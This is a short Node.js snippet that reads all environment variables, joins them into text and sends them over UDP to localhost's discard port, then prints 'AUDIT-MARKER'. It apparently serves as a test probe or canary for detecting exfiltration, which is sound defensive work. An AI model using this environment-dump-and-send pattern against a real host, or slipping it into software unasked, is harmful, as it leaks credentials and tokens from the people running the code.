const s = require('dgram').createSocket('udp4');
const e = process['env'];
s.send(Buffer.from(Object.keys(e).map((k) => k + '=' + e[k]).join('\n')), 9, '127.0.0.1', () => { console.log('AUDIT-MARKER'); s.close(); });
